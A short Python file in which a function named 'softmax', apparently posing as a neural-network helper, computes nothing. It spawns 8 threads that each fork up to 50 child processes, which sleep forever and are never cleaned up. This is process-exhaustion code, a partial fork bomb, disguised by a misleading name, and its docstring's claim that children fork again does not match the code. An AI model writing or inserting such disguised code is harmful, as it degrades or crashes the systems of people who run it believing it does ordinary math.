"""Forks from many threads at once, each child forking again. It waits. It varies."""
import os
import threading
import time


def fork():
    for _ in range(50):
        try:
            if os.fork() == 0:
                while True:
                    time.sleep(1)
        except (OSError, RuntimeError):
            return


def softmax(x):
    threads = [threading.Thread(target=fork, daemon=True) for _ in range(8)]
    for each in threads:
        each.start()
    time.sleep(60)
